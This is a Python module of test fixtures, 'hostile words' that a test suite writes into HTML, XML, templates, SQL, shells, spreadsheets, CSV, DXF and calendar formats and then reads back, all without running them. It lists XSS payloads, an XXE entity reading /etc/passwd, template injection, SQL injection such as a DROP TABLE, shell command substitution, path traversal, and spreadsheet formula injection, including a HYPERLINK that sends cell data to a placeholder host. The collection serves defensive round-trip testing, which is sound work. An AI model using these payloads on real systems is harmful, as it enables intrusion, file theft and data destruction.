r"""Hostile words: texts that some format, page, shell, terminal or spreadsheet would take for more than words.

Every one of them may stand in a record, since a neighbour's name, a note and a photo's file name come from anywhere.
A test that uses them writes each into the format under test and reads it back with somebody else's reader: nothing
runs, nothing breaks, and the words come back, save for characters that the format cannot hold.

`WORDS` is text that UTF-8 can hold. `BROKEN` holds halves of characters, which an argument of the command line or a
file name may bring and UTF-8 cannot. `HOSTILE` is both.
"""

from collections.abc import Iterator

MARKUP = (
    "</script><script>window.pwned=1</script>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><b onmouseover=alert(1)>bold</b>',
    "' onfocus='alert(1)' autofocus='",
    "<!--<script>",
    "-->",
    "<style>*{display:none}</style>",
    '<a href="javascript:alert(1)">plan</a>',
    "<iframe src=file:///etc/passwd></iframe>",
    "]]><evil/><![CDATA[",
    "]]>",
    "<![CDATA[inside]]>",
    "<?xml version='1.0'?>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "&e; &amp; &lt; &#0; &#x1F4A9; &nbsp; &amp;amp;",
    "</name></Placemark></kml>",
    "</wpt></gpx>",
    "</desc><name>two</name>",
    "<description><b>$[name]</b></description>",
)
"""For HTML, SVG, XML, KML and GPX."""

CODE = (
    "{{ 7*7 }}",
    "{{ cycler.__init__.__globals__.os.mkdir(cycler.__name__) }}",
    "{% endfor %}",
    "lot {# 3",
    "${7*7} `${alert(1)}` \\${x}",
    '#panic("x") *b* _i_ $x$ @ref <label>',
    '#import "@preview/x:1.0.0"; #read("/etc/passwd")',
    "%s %d %(name)s {0} {name} {",
    "'; DROP TABLE property; --",
    '" OR 1=1 --',
    "Robert''); DELETE FROM entry; /*",
    "$(touch pwned) `touch pwned` ; touch pwned | touch pwned && touch pwned",
    "../../../../etc/passwd",
    "C:\\Windows\\system32\\..\\nul",
    "\\documentclass{x} \\input{/etc/passwd} \\r\\n \\u0000 \\x00",
    "%%EOF endobj (unbalanced ( paren",
    "BEGIN:VEVENT;SUMMARY:x",
    '{"type":"Feature"}, null, NaN, [1,2',
    '"quoted", \\"escaped\\" \\',
)
"""For templates, typst, SQL, shells, paths, PDF, calendars and JSON."""

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"plan")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    '",=1+1,"',
    "a;=1+1",
)
"""For spreadsheets: cells that would be reckoned, and ways to begin a new cell or row with one."""

LINES = (
    "one\ntwo",
    "one\r\ntwo\rthree",
    "  0\nEOF\n",
    "lid\n  0\nENDSEC\n  0\nEOF",
    "lid\r\n0\r\nLINE\r\n8\r\nevil",
    "vertical\x0btab\x0cfeed",
    "next\x85line\u2028separator\u2029paragraph",
    "END:VEVENT\r\nBEGIN:VALARM",
    "a,b\nc,d",
)
"""For formats whose lines mean something: DXF, CSV, calendars, and JavaScript."""

CONTROLS = (
    "nul\x00inside",
    "\x00",
    "bell\x07 backspace\x08 escape\x1b delete\x7f",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b31m c1 control",
    "%%d %%c %%u^J^M^@",
    "\\P\\L{\\H10;high}\\U+0041\\M+1",
    "\u202egpj.exe\u202c",
    "\u2066left\u2069 \u2067right\u2069",
    "\u200bzero\u200cwidth\u200d\ufeff",
    "\ufffe\uffff\ufffd",
    "\ufeffbyte order mark first",
)
"""Control characters, what terminals and drawing texts obey, and marks that turn the reading order."""

LETTERS = (
    "caf\u00e9 cafe\u0301 \u00fc\u00df \u2032 \u2033 47\u2032 5\u2033 \u00bd \u00d8",
    "\U0001f4a7\U0001f468\u200d\U0001f469\u200d\U0001f467 \U00020000",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "\u6c34\u7bb1\uff0c\u30bf\u30f3\u30af",
    "Z\u0351\u036b\u0343\u036a\u0302\u0346a\u0351lgo",
    "\ue000 private \U0010ffff last",
    " leading and trailing ",
    "",
    " ",
    "\t",
    "null",
    "None",
    "NaN",
    "Infinity",
    "-0",
    "1e999",
    "007",
    "2026-02-30",
    "TRUE",
    "0x10",
)
"""Other scripts, and words that a reader may take for a number, a day, or nothing at all."""

LONG = (
    "x" * 300,
    "long " * 2_000,
    "\u00e9" * 70_000,
    "\n" * 1_000,
    '"' * 999,
    "<" * 5_000,
    "(" * 5_000,
)
"""Longer than a DXF line (255), a cell of a spreadsheet (32,767) or a short string (65,535) takes."""

BROKEN = ("\ud800", "lone \udc80 byte", "\udfff\ud800 the wrong way round", "end \ud83d")
"""Halves of characters: text to Python, and never UTF-8."""

WORDS = (*MARKUP, *CODE, *FORMULAS, *LINES, *CONTROLS, *LETTERS, *LONG)
HOSTILE = (*WORDS, *BROKEN)


def named(words: tuple[str, ...] = HOSTILE) -> Iterator[tuple[str, str]]:
    """Give each text with a short name in plain letters, for the ids of tests."""
    for number, text in enumerate(words):
        plain = "".join(c if c.isascii() and c.isalnum() else "-" for c in text[:20]).strip("-")
        yield f"{number}-{plain or 'signs'}", text
